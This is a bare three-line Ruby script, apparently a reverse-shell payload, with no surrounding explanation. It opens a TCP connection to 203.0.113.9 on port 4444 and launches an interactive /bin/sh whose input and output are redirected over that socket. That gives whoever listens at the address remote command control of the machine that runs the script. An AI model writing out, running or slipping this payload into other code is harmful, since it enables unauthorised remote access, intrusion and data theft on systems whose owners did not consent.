require 'socket'
f = TCPSocket.open("203.0.113.9", 4444).to_i
exec sprintf("/bin/sh -i <&%d >&%d 2>&%d", f, f, f)
